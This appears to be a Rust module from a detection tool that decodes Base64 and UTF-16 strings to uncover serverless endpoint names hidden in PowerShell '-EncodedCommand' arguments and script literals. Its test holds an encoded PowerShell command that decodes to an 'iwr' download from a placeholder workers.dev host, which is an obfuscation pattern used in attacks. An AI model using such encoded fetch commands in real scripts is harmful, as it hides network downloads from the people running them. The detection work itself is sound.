//! Texts that stand encoded in other texts: Base64 of UTF-8 or of UTF-16, which is what PowerShell takes
//! as `-EncodedCommand` and scripts hold as literals.

/// Shorter runs of letters than this hold no name of a serverless endpoint.
const LEAST_LETTERS: usize = 20;

/// More letters than this are not decoded in one text.
const MOST_LETTERS: usize = 256 << 10;

/// The texts that are encoded in a text, in their order.
pub(super) fn encoded_texts(text: &str) -> impl Iterator<Item = String> {
    let is_letter = |byte: &u8| sextet(*byte).is_some();
    let runs = text.as_bytes().split(move |byte| !is_letter(byte));
    let mut left = MOST_LETTERS;
    runs.filter(|run| run.len() >= LEAST_LETTERS)
        .map_while(move |run| {
            left = left.checked_sub(run.len())?;
            Some(decoded(run))
        })
        .filter_map(|bytes| text_of(&bytes))
}

/// What the letters stand for; those that do not fill a byte are left out.
fn decoded(letters: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(letters.len() / 4 * 3 + 2);
    for group in letters.chunks(4) {
        let bits = group
            .iter()
            .fold(0_u32, |bits, letter| bits << 6 | u32::from(sextet(*letter).unwrap_or_default()));
        let bits = bits << (6 * (4 - group.len()));
        let [_, first, second, third] = bits.to_be_bytes();
        bytes.extend([first, second, third].iter().take(group.len() - 1));
    }
    bytes
}

/// The text that bytes are, if they are one that people could read.
fn text_of(bytes: &[u8]) -> Option<String> {
    let units: Vec<u16> =
        bytes.chunks_exact(2).map(|pair| u16::from(pair[0]) | u16::from(pair[1]) << 8).collect();
    let wide = char::decode_utf16(units).collect::<Result<String, _>>().ok();
    let narrow = || str::from_utf8(bytes).ok().map(str::to_owned);
    wide.filter(|text| is_readable(text)).or_else(narrow).filter(|text| is_readable(text))
}

/// A name of a serverless endpoint is ASCII, and what surrounds it mostly is, too. Other bytes that are
/// read as UTF-16 are Chinese to the letter.
fn is_readable(text: &str) -> bool {
    let of_ascii = text.bytes().filter(u8::is_ascii_graphic).count();
    of_ascii * 2 > text.len()
}

fn sextet(letter: u8) -> Option<u8> {
    match letter {
        b'A'..=b'Z' => Some(letter - b'A'),
        b'a'..=b'z' => Some(letter - b'a' + 26),
        b'0'..=b'9' => Some(letter - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::encoded_texts;

    #[test]
    fn commands_and_literals_are_decoded() {
        let wide = "powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AcwB5AG4AYwAuAGEAYwBtAGUALgB3AG8AcgBrAGUAcgBzAC4AZABlAHYALwB4AA==";
        let narrow = "[Convert]::FromBase64String('aHR0cHM6Ly9zeW5jLmFjbWUud29ya2Vycy5kZXY')";
        let texts: Vec<String> = encoded_texts(&format!("{wide} {narrow}")).collect();
        assert_eq!(texts, ["iwr https://sync.acme.workers.dev/x", "https://sync.acme.workers.dev"]);
    }

    #[test]
    fn what_is_not_encoded_gives_nothing() {
        for text in ["", "curl https://www.example.com/", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAA"] {
            assert_eq!(encoded_texts(text).count(), 0, "{text}");
        }
        let path = "/usr/lib/x86/somewhere/deeper/than/that/program";
        assert_eq!(encoded_texts(path).count(), 0);
    }
}
